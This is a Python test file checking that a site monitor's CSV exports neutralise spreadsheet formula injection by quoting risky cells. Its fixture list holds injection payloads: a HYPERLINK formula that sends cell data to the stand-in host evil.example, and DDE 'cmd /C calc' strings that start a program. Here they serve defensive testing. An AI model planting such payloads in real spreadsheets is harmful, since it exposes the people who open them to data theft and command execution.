"""CSV exports are opened in spreadsheets: a cell that a spreadsheet would read as a formula
(a loc a watched site chose, an issue's message quoting it) is exported with a leading ``'``,
through the CLI and the daemon's API alike, on both databases."""

from __future__ import annotations

import csv
import io

import pytest
from site_fixture import Site, urlset

from monitor.cli.commands import main
from monitor.listing import params as listing

# Every character a spreadsheet starts a formula with, each leading a loc as a site can list it.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv(capsys: pytest.CaptureFixture[str], *argv: str) -> list[dict[str, str]]:
    assert main(list(argv)) == 0
    return list(csv.DictReader(io.StringIO(capsys.readouterr().out)))


def test_urls_and_issues_exports_neutralise_formula_cells(
    site: Site, db: str, capsys: pytest.CaptureFixture[str],
) -> None:
    good = site.url("/ok")
    site.set("/s.xml", urlset({good: None, **dict.fromkeys(FORMULAS)}))
    root = site.url("/s.xml")
    assert main(["check", root, "--database-url", db, "--json"]) in (0, 1)
    capsys.readouterr()

    urls = _csv(capsys, "urls", root, "--database-url", db, "--format", "csv")
    issues = _csv(capsys, "issues", root, "--database-url", db, "--format", "csv")
    cells = [value for row in urls + issues for value in row.values() if value]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []
    # Nothing is lost: the loc is there after its quote, and a normal loc is unchanged.
    locs = {row["loc"] for row in urls}
    assert good in locs
    for formula in FORMULAS:
        assert "'" + formula.strip() in locs  # the parser trims a loc's surrounding whitespace
    assert any(c.startswith("'=HYPERLINK(") for c in cells)


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@x", "'@x"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("x=1", "x=1"), ("", ""), (-1, "-1"), (0.5, "0.5"), (None, ""),
    ({"a": "=1"}, '{"a":"=1"}'),
])
def test_a_cell_is_quoted_only_when_a_spreadsheet_would_read_a_formula(
    value: object, cell: str,
) -> None:
    assert listing.csv_cell(value) == cell
